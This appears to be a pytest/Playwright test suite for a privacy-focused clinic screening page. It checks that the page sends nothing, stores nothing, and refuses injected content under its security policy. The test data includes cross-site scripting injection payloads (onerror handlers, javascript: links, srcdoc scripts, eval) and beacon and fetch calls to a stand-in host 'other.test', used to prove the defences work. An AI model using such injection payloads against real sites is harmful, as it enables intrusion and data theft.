"""The page sends nothing and stores nothing: seen from inside, from the network, and on the disk of the browser."""

import base64
import hashlib
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any

import browser as browsers
import pytest
from commands import file
from live_pages import answer, finish, opened
from readers import real

from screener.page.build import AT_HOME, PageKind, fragment, script, webpage
from screener.page.code.sealing import new_pair, public_key
from screener.rulefile.model import RuleFile

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page

PUBLIC = new_pair()[1]
KINDS = {"home": AT_HOME, "kiosk": PageKind(idle=120), "sealed": PageKind(key=public_key(PUBLIC))}
#: Where a clinic may have the page.
SITE = "https://clinic.test/page.html"
#: Words that stand nowhere but in an answer.
OWN_WORDS = "quokka-marmalade-zeppelin"
#: Words that the test stores itself, to see when the browser has written what it was given.
STORED = "walrus-parsnip-gondola"
# Everything by which a page could send or keep something, watched from before its script runs.
WATCHED = """
globalThis.calls = [];
const watch = (owner, name) => {
    const { value, set, ...rest } = Object.getOwnPropertyDescriptor(owner, name);
    const noted = (real) => real && function (...given) {
        calls.push(name);
        return new.target ? Reflect.construct(real, given) : real.apply(this, given);
    };
    Object.defineProperty(owner, name, value ? { ...rest, value: noted(value) } : { ...rest, set: noted(set) });
};
watch(Storage.prototype, "setItem");
watch(Storage.prototype, "getItem");
watch(IDBFactory.prototype, "open");
watch(Document.prototype, "cookie");
watch(XMLHttpRequest.prototype, "open");
watch(Navigator.prototype, "sendBeacon");
watch(globalThis, "fetch");
watch(globalThis, "WebSocket");
watch(globalThis, "EventSource");
watch(globalThis, "Worker");
watch(globalThis, "SharedWorker");
watch(globalThis, "BroadcastChannel");
watch(globalThis, "RTCPeerConnection");
watch(globalThis, "open");
watch(globalThis, "postMessage");
if (globalThis.CacheStorage) watch(CacheStorage.prototype, "open");
if (globalThis.ServiceWorkerContainer) watch(ServiceWorkerContainer.prototype, "register");
"""
KEPT = """async () => ({
    cookie: document.cookie,
    local: Object.entries(localStorage),
    session: Object.entries(sessionStorage),
    databases: await indexedDB.databases(),
    caches: location.protocol === "file:" ? [] : await caches.keys(),
    workers: location.protocol === "file:" ? 0 : (await navigator.serviceWorker.getRegistrations()).length,
    fetched: performance.getEntriesByType("resource").map(({ name }) => name),
    name: globalThis.name,
})"""
NOTHING = {
    "cookie": "", "local": [], "session": [], "databases": [], "caches": [], "workers": 0, "fetched": [], "name": "",
}  # fmt: skip


def own_words(rules: RuleFile) -> dict[str, Any]:
    """Answers to everything, with words of the person's own wherever there is room for them."""
    texts = [question.id for question in rules.questions if question.type == "text"]
    return {**real()["everything"], **dict.fromkeys(texts, OWN_WORDS)}


@contextmanager
def watched(context: "BrowserContext") -> "Iterator[list[str]]":
    """The addresses of everything that pages ask for, from their navigation on; nobody is kept from the network."""
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    context.on("page", lambda page: page.on("websocket", lambda socket: asked.append(socket.url)))
    yield asked


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("address", ["file", SITE], ids=["file", "site"])
def test_an_interview_asks_for_its_file_and_keeps_nothing(
    kind: str, address: str, pico: RuleFile, chromium: "Browser", tmp_path: Path
) -> None:
    """From the first screen to the last: one request, and no call of what could send or store; no cookie, no cache."""
    text = webpage(pico, KINDS[kind])
    url = file(tmp_path, text, "page.html").as_uri() if address == "file" else address
    context = chromium.new_context()
    context.add_init_script(WATCHED)
    if address != "file":
        context.route(address, lambda route: route.fulfill(body=text, content_type="text/html"))
    with watched(context) as asked:
        page = context.new_page()
        page.on("dialog", lambda dialog: dialog.accept())
        page.goto(url)
        wander(page, pico)
        assert asked == [url]
        assert page.evaluate(KEPT) == NOTHING
        assert page.evaluate("calls.filter((name) => name !== 'cookie' && name !== 'getItem')") == []
        assert context.storage_state() == {"cookies": [], "origins": []}
    context.close()


def wander(page: "Page", rules: RuleFile) -> None:
    """Everything that a person can do: answer, look at the code and the sources, print, change, go back, start over."""
    finish(page, rules, own_words(rules))
    page.locator(".code svg").wait_for()
    for details in page.locator("details").all():
        details.evaluate("(one) => { one.open = true; }")
    page.locator(".ids a").first.click()
    page.pdf()
    page.get_by_role("button", name="Look at my answers again").click()
    page.locator("button", has_text="Change").first.click()
    page.get_by_role("button", name="Back", exact=True).click()
    page.locator(".tools button").last.click()
    page.locator("button.main").click()
    page.get_by_role("button", name="Start", exact=True).wait_for()


def test_the_watch_sees_what_is_sent_and_stored(chromium: "Browser", tmp_path: Path) -> None:
    """A page that does all of this is caught, so that finding nothing means something."""
    text = """<script>
        localStorage.setItem("a", "1"); document.cookie = "a=1"; navigator.sendBeacon("https://other.test/b");
        fetch("https://other.test/f").catch(() => {}); indexedDB.open("a"); new Worker("data:,");
        new WebSocket("wss://other.test/w"); name = "me";
    </script><img src="https://other.test/i">"""
    context = chromium.new_context()
    context.add_init_script(WATCHED)
    context.route("https://clinic.test/", lambda route: route.fulfill(body=text, content_type="text/html"))
    with watched(context) as asked:
        page = context.new_page()
        page.goto("https://clinic.test/")
        page.wait_for_load_state()
        kept = page.evaluate(KEPT)
        calls = page.evaluate("calls")
    context.close()

    assert {"https://other.test/f", "https://other.test/i", "wss://other.test/w"} <= set(asked)
    assert {"setItem", "cookie", "sendBeacon", "fetch", "open", "Worker", "WebSocket"} <= set(calls)
    assert {key for key, value in kept.items() if value != NOTHING[key]} >= {"cookie", "local", "databases", "name"}


def test_the_address_and_the_history_hold_a_number_at_most(pico: RuleFile, chromium: "Browser", tmp_path: Path) -> None:
    """On each screen, and after every link that leads to a source; the title of the window tells no answer."""
    with opened(chromium, webpage(pico), tmp_path, before=EACH_SCREEN) as page:
        address = page.url
        finish(page, pico, own_words(pico))
        for link in page.locator(".sheet .ids a").all():
            link.evaluate("(one) => one.click()")
            link.dispatch_event("auxclick", {"button": 1})
        screens = page.evaluate("screens")

        assert len(screens) > 20
        assert {href for href, _, _ in screens} == {address} == {page.url}
        assert all(state is None or isinstance(state, int) for _, state, _ in screens)
        assert OWN_WORDS not in str(screens)


EACH_SCREEN = """
globalThis.screens = [];
addEventListener("DOMContentLoaded", () => new MutationObserver(
    () => screens.push([location.href, history.state, document.title])
).observe(document, { childList: true, subtree: true }));
"""


def test_a_link_to_a_source_opens_no_page_that_tells_it(pico: RuleFile, chromium: "Browser", tmp_path: Path) -> None:
    """Also not with the middle button, or with a key that is held: what is cited would stand in an address."""
    with opened(chromium, webpage(pico), tmp_path) as page:
        finish(page, pico, own_words(pico))
        link = page.locator(".sheet .ids a").first
        link.click(button="middle")
        link.click(modifiers=["Control"])
        page.wait_for_timeout(200)

        assert [one.url for one in page.context.pages] == [page.url]
        assert "#" not in page.url


def test_nothing_is_left_on_the_disk_of_the_browser(pico: RuleFile, chromium: "Browser", tmp_path: Path) -> None:
    """A whole interview, and one that is broken off in the middle of a word: no file of the browser has any of it.

    The browser was given time to write: what the test stores itself after that is on the disk.
    """
    profile, address = tmp_path / "profile", file(tmp_path, webpage(pico), "page.html").as_uri()
    context = chromium.browser_type.launch_persistent_context(
        profile, executable_path=browsers.chromium(), args=list(browsers.QUIET)
    )
    page, broken_off = context.new_page(), context.new_page()
    for one in (page, broken_off):
        one.goto(address)
    finish(page, pico, own_words(pico))
    answer(broken_off, pico, {"adult": "yes", "concerns": ("other",)})
    broken_off.locator("textarea").press_sequentially(OWN_WORDS)
    page.evaluate("(words) => localStorage.setItem('stored', words)", STORED)
    while not files_with(STORED, profile):
        page.wait_for_timeout(200)
    context.close()

    assert files_with(OWN_WORDS, profile) == []


def files_with(words: str, folder: Path) -> list[Path]:
    """The files that hold these words, in any of the ways in which browsers write texts."""
    ways = (words.encode(), words.encode("utf-16-le"))
    every = [path for path in folder.rglob("*") if path.is_file()]
    return [path for path in every if any(way in path.read_bytes() for way in ways)]


def test_a_page_that_is_opened_again_is_empty(pico: RuleFile, chromium: "Browser", tmp_path: Path) -> None:
    """Loaded anew, opened in a second window, closed and opened: the start, and no answer."""
    with opened(chromium, webpage(pico), tmp_path) as page:
        finish(page, pico, own_words(pico))
        second = page.context.new_page()
        second.goto(page.url)
        assert is_empty(second)
        page.reload()
        assert is_empty(page)
        page.close()
        third = second.context.new_page()
        third.goto(second.url)
        assert is_empty(third)


def test_after_loading_it_anew_back_leads_out_of_the_page(pico: RuleFile, chromium: "Browser", tmp_path: Path) -> None:
    """The screens of before are gone, so there is nothing to go back through; and new ones are gone through as ever."""
    with opened(chromium, webpage(pico), tmp_path) as page:
        address = page.url
        page.goto("about:blank")
        page.goto(address)
        finish(page, pico, own_words(pico))
        page.reload()
        page.evaluate(AT_THE_BEGINNING)
        page.get_by_role("button", name="Start", exact=True).click()
        page.go_back()
        page.locator("button.main").wait_for()
        assert page.locator("form").count() == 0
        page.go_back()
        assert page.url == "about:blank"


AT_THE_BEGINNING = """() => new Promise((done) => {
    const look = () => (history.state === null ? done() : setTimeout(look, 10));
    look();
})"""
SENT_AWAY = "https://clinic.test/other.html"


def test_a_page_that_is_left_is_wiped_before_the_browser_keeps_it(pico: RuleFile, chromium: "Browser") -> None:
    """Browsers keep a page that is left whole, to show it at once when somebody goes back; there is nothing in it."""
    how: Any = {"executable_path": browsers.chromium(), "args": list(browsers.QUIET)}
    kept = chromium.browser_type.launch(ignore_default_args=["--disable-back-forward-cache"], **how)
    context = kept.new_context()
    context.route(SITE, lambda route: route.fulfill(body=webpage(pico), content_type="text/html"))
    context.route(SENT_AWAY, lambda route: route.fulfill(body="<title>Other</title>", content_type="text/html"))
    page = context.new_page()
    page.on("dialog", lambda dialog: dialog.accept())
    page.goto(SITE)
    finish(page, pico, own_words(pico))
    page.evaluate("addEventListener('pageshow', ({ persisted }) => { globalThis.persisted = persisted; })")
    page.goto(SENT_AWAY)
    page.go_back(wait_until="commit")
    assert page.evaluate("globalThis.persisted") is True
    assert OWN_WORDS not in page.content()
    assert is_empty(page)
    kept.close()


def is_empty(page: "Page") -> bool:
    """Whether this is the start, and no question has an answer."""
    page.get_by_role("button", name="Start", exact=True).click()
    first = page.locator("form input:checked").count() == 0 and page.locator(".place").inner_text()
    return bool(first) and "question 1" in str(first).lower()


def test_the_policy_names_the_scripts_and_the_style_and_nothing_else(pico: RuleFile) -> None:
    """Everything is forbidden but two scripts and one style, by their hashes, which are those of what stands there."""
    for kind in KINDS.values():
        text = webpage(pico, kind)
        (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', text)
        (style,) = re.findall(r"<style>(.*?)</style>", text, re.DOTALL)
        (first,) = re.findall(r"<script>(.*?)</script>", text, re.DOTALL)

        assert dict(part.split(" ", 1) for part in policy.replace("&#39;", "'").split("; ")) == {
            "default-src": "'none'",
            "script-src": f"{hashed(first)} {hashed(script())}",
            "style-src": hashed(style),
            "base-uri": "'none'",
            "form-action": "'none'",
        }
        assert text.index("Content-Security-Policy") < text.index("<style>") < text.index("<script")
        assert re.findall(r"(?:src|href)=|url\(|@import|https?:(?!//www\.w3\.org)", text.split("<body>")[0]) == []


def hashed(text: str) -> str:
    """What a policy calls the script or style with this text."""
    return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"


# What somebody could try who got something into the page. Each says whether it went through.
TRIED = """async () => {
    const went = [], refused = [];
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
    globalThis.ran = (what) => went.push(what);
    const put = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
    const other = "https://other.test/";
    put("script", { textContent: "ran('script')" });
    put("script", { src: `${other}s.js` });
    put("script", { src: "data:text/javascript,ran('data')" });
    put("div", { innerHTML: "<img src=x onerror=\\"ran('handler')\\">" });
    put("img", { src: `${other}i.png` });
    put("iframe", { src: other });
    put("iframe", { srcdoc: "<script>parent.ran('frame')</scr" + "ipt>" });
    put("object", { data: other });
    put("link", { rel: "stylesheet", href: `${other}s.css` });
    put("style", { textContent: "body { --put: 1 }" });
    put("video", { src: `${other}v.mp4` });
    put("a", { href: "javascript:ran('link')", id: "link" });
    document.getElementById("link").click();
    put("form", { action: other, id: "sent" });
    document.getElementById("sent").submit();
    put("base", { href: other });
    setTimeout("ran('text as code')");
    setTimeout(() => { try { (0, eval)("ran('eval')"); } catch { refused.push("eval"); } });
    setTimeout(() => { try { new Function("ran('Function')")(); } catch { refused.push("Function"); } });
    await fetch(`${other}f`).then(() => ran("fetch"), () => refused.push("fetch"));
    try { new Worker("data:text/javascript,1"); } catch { refused.push("Worker"); }
    navigator.sendBeacon(`${other}b`);
    await new Promise((done) => setTimeout(done, 300));
    if (getComputedStyle(document.body).getPropertyValue("--put")) ran("style");
    if (!document.baseURI.startsWith(location.origin)) ran("base");
    return { went, refused };
}"""


def test_what_is_put_into_the_page_does_not_run(pico: RuleFile, chromium: "Browser") -> None:
    """Scripts, handlers, frames, pictures, styles, links and forms from elsewhere are refused; nothing is asked for."""
    context = chromium.new_context()
    asked: list[str] = []
    context.route("**/*", lambda route: asked.append(route.request.url))
    context.route(SITE, lambda route: route.fulfill(body=webpage(pico), content_type="text/html"))
    page = context.new_page()
    page.goto(SITE)
    tried = page.evaluate(TRIED)
    context.close()

    assert tried["went"] == []
    assert {"eval", "Function", "fetch", "script-src-elem", "script-src-attr", "img-src", "frame-src"} <= set(
        tried["refused"]
    )
    assert {"style-src-elem", "form-action", "connect-src", "base-uri", "media-src"} <= set(tried["refused"])
    assert asked == []


NAMES = "() => Object.getOwnPropertyNames(globalThis).sort()"


def test_one_name_is_added_to_the_browsers(pico: RuleFile, chromium: "Browser", tmp_path: Path) -> None:
    """`screener`, which nobody can change; after a whole interview there is still no other. An element adds none."""
    with opened(chromium, "<!DOCTYPE html><title>Blank</title>", tmp_path) as blank:
        before = set(blank.evaluate(NAMES))
    with opened(chromium, webpage(pico), tmp_path) as page:
        finish(page, pico, own_words(pico))
        assert set(page.evaluate(NAMES)) - before == {"screener"}
        assert page.evaluate("[Object.isFrozen(screener), Object.keys(screener)]") == [True, ["assess"]]
    with opened(chromium, f"<!DOCTYPE html><title>Site</title>{fragment(pico)}", tmp_path) as site:
        site.locator("button", has_text="Start").wait_for()
        assert set(site.evaluate(NAMES)) - before == set()
